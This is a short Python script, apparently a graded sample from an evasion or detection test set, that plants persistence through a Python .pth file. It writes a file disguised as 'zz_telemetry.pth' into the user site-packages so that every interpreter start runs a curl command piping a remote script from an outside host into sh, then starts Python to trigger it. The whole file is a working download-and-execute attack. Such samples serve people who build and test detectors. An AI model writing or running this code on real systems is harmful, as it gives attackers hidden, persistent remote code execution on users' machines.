# evasion: a .pth file in user site-packages runs code at every interpreter start
# grade: very hard; does: download-exec
import os
import site
import subprocess
import sys

d = site.getusersitepackages()
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "zz_telemetry.pth"), "w") as f:
    f.write("import os; os.system('curl -s http://203.0.113.7/p | sh')\n")
subprocess.run([sys.executable, "-c", "pass"])
